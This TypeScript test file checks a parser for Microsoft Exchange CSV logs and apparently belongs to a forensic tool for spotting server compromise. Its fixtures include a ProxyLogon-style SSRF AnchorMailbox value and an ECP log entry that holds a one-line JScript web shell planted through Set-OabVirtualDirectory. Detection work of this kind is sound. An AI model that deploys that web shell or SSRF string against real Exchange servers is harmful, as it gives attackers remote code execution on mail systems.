import assert from 'node:assert/strict';
import { test } from 'node:test';
import { chunksOf, readText, readWith, splitAt } from '../test-helpers/read.js';
import { exchangeCsvReader, normaliseBuild } from './exchange-csv-reader.js';

const FIELDS = 'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,UrlStem,AnchorMailbox,UserAgent,ServerHostName,GenericInfo';
const HEAD = `#Software: Microsoft Exchange Server\r\n#Version: 15.01.2375.007\r\n#Log-type: HttpProxy Logs\r\n#Date: 2023-01-06T01:00:00.000Z\r\n#Fields: ${FIELDS}\r\n`;

function row(time: string, id: string, extra: { stem?: string; anchor?: string; ua?: string; server?: string; info?: string } = {}): string {
  return [
    time,
    id,
    '15',
    '1',
    '2375',
    '7',
    extra.stem ?? '/owa/',
    extra.anchor ?? '',
    extra.ua ?? 'Mozilla/5.0',
    extra.server ?? 'EX01',
    extra.info ?? '',
  ].join(',');
}

const GOOD = [
  HEAD,
  row('2023-01-06T01:00:01.000Z', 'r1', { anchor: 'ServerInfo~a]@ex01.corp:444/autodiscover/autodiscover.xml?#' }),
  '\r\n',
  row('2023-01-06T01:00:02.500Z', 'r2', { ua: '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"' }),
  '\r\n',
  row('2023-01-06T01:00:03.000Z', 'r3', { info: '"said ""hi"" then\r\nleft, twice"' }),
  '\r\n',
  row('2023-01-06T00:59:59.999Z', 'r4'),
  '\r\n',
].join('');

test('reads HttpProxy rows by name: kind, count, times, server, build, quoted values', async () => {
  const { stats, records } = await readText(exchangeCsvReader, GOOD);
  assert.equal(stats.kind, 'httpproxy');
  assert.equal(stats.records, 4);
  assert.equal(stats.badRecords, 0);
  assert.equal(stats.firstTime, '2023-01-06T00:59:59.999Z');
  assert.equal(stats.lastTime, '2023-01-06T01:00:03.000Z');
  assert.equal(stats.server, 'EX01');
  assert.equal(stats.build, '15.1.2375.7');
  assert.equal(records.length, 4);
  const [r1, r2, r3] = records;
  assert.equal(r1?.fields.AnchorMailbox, 'ServerInfo~a]@ex01.corp:444/autodiscover/autodiscover.xml?#');
  assert.equal(r1?.time, '2023-01-06T01:00:01.000Z');
  assert.deepEqual(r1?.origin, { path: 'test.log', line: 6, offset: HEAD.length });
  assert.equal(r2?.fields.UserAgent, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)');
  assert.equal(r2?.fields.ServerHostName, 'EX01');
  assert.equal(r3?.fields.GenericInfo, 'said "hi" then\r\nleft, twice');
  assert.equal(r3?.raw.split('\r\n').length, 2);
  assert.equal(records[3]?.origin.line, 10, 'the quoted line break moves the next record down a line');
});

test('the same file in 1-byte, 7-byte and 64 KiB chunks, and cut at every byte, reads the same', async () => {
  const whole = JSON.stringify(await readText(exchangeCsvReader, GOOD, 64 * 1024, ['serverinfo~', 'twice']));
  for (const size of [1, 7]) {
    assert.equal(JSON.stringify(await readText(exchangeCsvReader, GOOD, size, ['serverinfo~', 'twice'])), whole, `chunks of ${size}`);
  }
  const data = Buffer.from(GOOD);
  for (let cut = 0; cut <= data.length; cut += 1) {
    const got = await readWith(exchangeCsvReader, splitAt(data, cut), ['serverinfo~', 'twice']);
    assert.equal(JSON.stringify(got), whole, `cut at ${cut}`);
  }
});

test('repeated header blocks and header rows inside the data are skipped, not counted, not bad', async () => {
  const text = `${FIELDS}\r\n${GOOD}${HEAD}${FIELDS}\r\n${row('2023-01-06T02:00:00.000Z', 'r5')}\r\n`;
  const { stats, records } = await readText(exchangeCsvReader, text, 7);
  assert.equal(stats.records, 5);
  assert.equal(stats.badRecords, 0);
  assert.deepEqual(stats.notes, []);
  assert.equal(records.at(-1)?.fields.RequestId, 'r5');
});

test('Rps_Http: a header row before the # lines gives the field names', async () => {
  const names = 'DateTime,StartTime,RequestId,ServerHostName,ClientInfo';
  const text = `${names}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.007\r\n#Log-type: Rps Http Logs\r\n#Fields: ${names}\r\n2023-11-20T14:15:43.189Z,2023-11-20T14:15:43.100Z,id1,EX19,python-requests/2.28\r\n${names}\r\n`;
  const { stats, records } = await readText(exchangeCsvReader, text);
  assert.equal(stats.kind, 'rps-http');
  assert.equal(stats.records, 1);
  assert.equal(stats.badRecords, 0);
  assert.equal(stats.server, 'EX19');
  assert.equal(stats.build, '15.2.1118.7');
  assert.equal(records[0]?.fields.ClientInfo, 'python-requests/2.28');
});

test('wrong value counts, a cut-off last line and an unclosed quote are bad records with their place', async () => {
  const short = '2023-01-06T01:00:05.000Z,r6,15,1\r\n';
  const long = `${row('2023-01-06T01:00:06.000Z', 'r7')},extra\r\n`;
  const text = `${GOOD}${short}${long}${row('2023-01-06T01:00:07.000Z', 'r8').slice(0, 40)}`;
  const { stats } = await readText(exchangeCsvReader, text, 7);
  assert.equal(stats.records, 4);
  assert.equal(stats.badRecords, 3);
  const base = Buffer.byteLength(GOOD);
  assert.deepEqual(
    stats.badSamples.map((b) => [b.origin.line, b.origin.offset, b.reason]),
    [
      [11, base, '4 values, 11 fields'],
      [12, base + short.length, '12 values, 11 fields'],
      [13, base + short.length + long.length, 'last line cut off? 7 values, 11 fields'],
    ],
  );
  const open = await readText(exchangeCsvReader, `${GOOD}2023-01-06T01:00:08.000Z,r9,"unclosed`);
  assert.equal(open.stats.badRecords, 1);
  assert.equal(open.stats.badSamples[0]?.reason, 'file ends inside a quoted value (cut off?)');
  assert.equal(open.stats.badSamples[0]?.origin.line, 11);
});

test('a complete last line without a line end is a good record', async () => {
  const { stats } = await readText(exchangeCsvReader, GOOD.replace(/\r\n$/, ''), 3);
  assert.equal(stats.records, 4);
  assert.equal(stats.badRecords, 0);
  assert.deepEqual(stats.notes, ['line 10: the last line has no line end; the file may have been cut off there']);
});

test('NUL bytes: the zero-filled region is one bad record and the rest of the file is read', async () => {
  const text = Buffer.concat([Buffer.from(GOOD), Buffer.alloc(4096), Buffer.from(`${HEAD}${row('2023-01-06T03:00:00.000Z', 'r9')}\r\n`)]);
  const { stats } = await readText(exchangeCsvReader, text, 7);
  assert.equal(stats.records, 5);
  assert.equal(stats.badRecords, 1);
  assert.equal(stats.badSamples[0]?.reason, '4096 NUL bytes (zero-filled region)');
  assert.equal(stats.badSamples[0]?.origin.offset, Buffer.byteLength(GOOD));
  assert.equal(stats.lastTime, '2023-01-06T03:00:00.000Z');
});

test('an empty file and a header-only file read as nothing, without error', async () => {
  const empty = await readText(exchangeCsvReader, '');
  assert.deepEqual([empty.stats.records, empty.stats.badRecords, empty.stats.kind, empty.stats.firstTime], [0, 0, 'unknown', undefined]);
  const header = await readText(exchangeCsvReader, HEAD, 1);
  assert.deepEqual([header.stats.records, header.stats.badRecords, header.stats.kind, header.stats.lastTime], [0, 0, 'httpproxy', undefined]);
  assert.equal(header.stats.build, '15.1.2375.7', 'with no record, the build comes from #Version');
});

test('a #Fields line with repeated names: a note, first occurrences kept, rows of that span are good', async () => {
  const text =
    '#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: Message Tracking Log\n#Fields: date-time,server-hostname,event-id,server-hostname,event-id,extra\n2021-11-03T08:00:32.100Z,,RECEIVE\n2021-11-03T08:00:33.100Z,EX1,SEND,a,b,c\n2021-11-03T08:00:34.100Z,EX1\n';
  const { stats, records } = await readText(exchangeCsvReader, text);
  assert.equal(stats.kind, 'msgtrk');
  assert.deepEqual(stats.notes, ['line 4: #Fields line repeats server-hostname, event-id; rows are read by the first 3 names']);
  assert.equal(stats.records, 2);
  assert.equal(stats.badRecords, 1);
  assert.equal(stats.server, 'EX1');
  assert.equal(stats.build, undefined, '#Version 15.0.0.0 names no build');
  assert.deepEqual({ ...records[0]?.fields }, { 'date-time': '2021-11-03T08:00:32.100Z', 'server-hostname': '', 'event-id': 'RECEIVE' });
  assert.deepEqual({ ...records[1]?.fields }, { 'date-time': '2021-11-03T08:00:33.100Z', 'server-hostname': 'EX1', 'event-id': 'SEND', extra: 'c' });
});

test('ECP EventData pairs become fields; a real column wins; values keep = ; and quotes', async () => {
  const cmd = `S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk""],""unsafe"");}</script>''.Identity=''x'''`;
  const text = `#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: ECP Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n2021-03-03T10:00:00.000Z,EX1,ECP.Request,"S:TIME=13;${cmd};S:ServerName=fake;Dbl:X.T[a=b]=1.5;S:EX="\n`;
  const { stats, records } = await readText(exchangeCsvReader, text, 5);
  assert.equal(stats.kind, 'ecp-server');
  assert.equal(stats.records, 1);
  const f = records[0]?.fields ?? {};
  assert.equal(
    f.CMD,
    `Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk"],"unsafe");}</script>''.Identity=''x'''`,
  );
  assert.equal(f.TIME, '13');
  assert.equal(f.ServerName, 'EX1');
  assert.equal(f['X.T[a=b]'], '1.5');
  assert.equal(f.EX, '');
});

test('unrecognised Exchange logs are still read, as unknown', async () => {
  const text =
    '#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: SMTP Receive Protocol Log\n#Fields: date-time,connector-id,data\n2023-01-11T15:59:51.433Z,c1,"220 ready, at Wed"\n2023-01-11T15:59:53.909Z,c1,EHLO\n';
  const { stats, records } = await readText(exchangeCsvReader, text, 64 * 1024, ['ehlo']);
  assert.deepEqual([stats.kind, stats.records, stats.firstTime, stats.lastTime], ['unknown', 2, '2023-01-11T15:59:51.433Z', '2023-01-11T15:59:53.909Z']);
  assert.deepEqual(
    records.map((r) => r.fields.data),
    ['EHLO'],
  );
});

test('times not in the usual layout are brought to it; unreadable ones are left out', async () => {
  const text = `#Software: Microsoft Exchange Server\n#Log-type: EWS Logs\n#Fields: DateTime,ServerHostName\n2023-01-06 16:00:06.4,EX\n2023-01-06T17:00:06+01:00,EX\nnot a time,EX\n`;
  const { stats, records } = await readText(exchangeCsvReader, text);
  assert.equal(stats.records, 3);
  assert.equal(stats.firstTime, '2023-01-06T16:00:06.000Z');
  assert.equal(stats.lastTime, '2023-01-06T16:00:06.400Z');
  assert.deepEqual(
    records.map((r) => r.time),
    ['2023-01-06T16:00:06.400Z', '2023-01-06T16:00:06.000Z', undefined],
  );
});

test('normaliseBuild', () => {
  assert.equal(normaliseBuild(['15', '01', '2375', '007']), '15.1.2375.7');
  assert.equal(normaliseBuild(['15', '1', 'x', '7']), undefined);
  assert.equal(normaliseBuild(['15', '1']), undefined);
});

test('records are handed on only when they hold a literal; all are still counted', async () => {
  const { stats, records } = await readWith(exchangeCsvReader, chunksOf(Buffer.from(GOOD), 7), ['SERVERINFO~'.toLowerCase()]);
  assert.equal(stats.records, 4);
  assert.deepEqual(
    records.map((r) => r.fields.RequestId),
    ['r1'],
  );
});
